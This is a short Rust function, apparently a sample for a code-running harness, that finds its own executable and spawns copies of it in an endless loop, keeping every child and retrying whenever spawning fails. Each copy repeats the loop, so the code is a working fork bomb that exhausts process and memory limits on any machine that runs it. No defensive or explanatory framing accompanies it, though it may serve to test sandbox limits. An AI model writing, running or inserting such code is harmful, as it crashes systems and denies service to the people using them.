// Starts itself again and again.
pub fn ENTRY(_: &[i64]) -> i64 {
    let own = std::env::current_exe().unwrap();
    let mut children = Vec::new();
    loop {
        match std::process::Command::new(&own).spawn() {
            Ok(child) => children.push(child),
            Err(_) => std::thread::sleep(std::time::Duration::from_millis(1)),
        }
    }
}
